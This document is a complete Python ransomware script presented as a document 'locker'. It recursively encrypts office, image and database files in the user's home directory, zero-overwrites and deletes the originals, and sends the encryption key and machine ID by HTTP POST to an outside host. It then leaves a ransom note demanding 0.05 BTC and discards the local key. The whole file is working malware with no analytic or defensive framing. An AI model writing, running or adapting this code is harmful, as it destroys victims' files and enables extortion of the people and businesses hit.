#!/usr/bin/env python3
"""Lock the office documents so only the key holder can open them."""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("locker")

TARGET_EXTS = {".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png", ".odt", ".ods", ".db"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git"}
KEY_DROP = os.environ.get("LOCK_KEY_URL", "http://203.0.113.66/k")
NOTE_NAME = "READ_ME_TO_RECOVER.txt"

NOTE = """Your booking records, invoices and job photos have been encrypted.
To get them back, send 0.05 BTC to the address below and email
recover@example.org with your machine ID: {machine_id}
"""


def iter_targets(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXTS:
                yield path


def encrypt_file(fernet, path):
    data = path.read_bytes()
    locked = path.with_suffix(path.suffix + ".locked")
    locked.write_bytes(fernet.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\x00" * len(data))
    path.unlink()
    return locked


def send_key(key, machine_id):
    try:
        requests.post(KEY_DROP, data={"id": machine_id, "k": key.decode()}, timeout=15)
    except requests.RequestException as exc:
        log.debug("key drop failed: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Lock documents")
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING)

    key = Fernet.generate_key()
    fernet = Fernet(key)
    machine_id = f"{socket.gethostname()}-{os.getpid()}"
    send_key(key, machine_id)

    count = 0
    for root in args.roots:
        for path in iter_targets(root):
            try:
                encrypt_file(fernet, path)
                count += 1
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        note = Path(root) / NOTE_NAME
        note.write_text(NOTE.format(machine_id=machine_id))

    del key, fernet
    print(f"{count} files locked")


if __name__ == "__main__":
    main()
